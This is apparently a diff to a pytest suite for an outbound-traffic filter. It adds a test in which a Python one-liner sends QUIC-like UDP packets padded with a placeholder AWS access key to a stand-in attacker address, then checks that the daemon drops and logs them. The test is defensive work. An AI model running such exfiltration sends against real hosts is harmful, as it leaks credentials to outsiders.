@@ -179,7 +179,7 @@ def test_kill9_fails_closed_but_allowed_download_finishes(anylab):
     e = anylab.start_egressd()
     out = os.path.join(anylab.dir, "big.bin")
     dl = anylab.spawn(anylab.cli, ["curl", "-sS", "--noproxy", "*", "--cacert", anylab.ca["ca"],
-                                   "--limit-rate", "200k", "--max-time", "15", "-o", out,
+                                   "--limit-rate", "256k", "--max-time", "15", "-o", out,
                                    "https://updates.example.com/big.bin"],
                       stderr=os.path.join(anylab.dir, "dl.stderr"))
     L.wait_for(lambda: os.path.exists(out) and os.path.getsize(out) > 0, 5,
@@ -231,3 +231,20 @@ def test_audit_mode_logs_but_does_not_deny(gwlab):
     assert p.returncode == 0, p.stderr
     ev = e.wait_event(is_deny_to(L.ATTACKER4, 80), what="audit deny event")
     assert ev.get("enforced") is False
+
+
+@pytest.mark.parametrize("fam", ["4", "6"])
+def test_udp_to_attacker_dropped(anylab, fam):
+    """QUIC-looking UDP to the attacker (quic policy = deny): nothing arrives, logged."""
+    e = anylab.start_egressd()
+    dst = L.ATTACKER6 if fam == "6" else L.ATTACKER4
+    code = ("import socket,sys; f=socket.AF_INET6 if ':' in sys.argv[1] else socket.AF_INET; "
+            "s=socket.socket(f,socket.SOCK_DGRAM); "
+            "[s.sendto(bytes([0xc3,0,0,0,1])+b'AKIAIOSFODNN7EXAMPLE'*40,(sys.argv[1],443)) "
+            "for _ in range(3)]")
+    p = anylab.ns_run(anylab.cli, [L.PY, "-c", code, dst])
+    assert p.returncode == 0, p.stderr
+    ev = e.wait_event(lambda x: x.get("event") == "deny" and x.get("dst") == dst
+                      and x.get("proto") == "udp", what="deny of UDP 443 to the attacker")
+    assert ev.get("dport") == 443
+    anylab.assert_attacker_got_nothing()
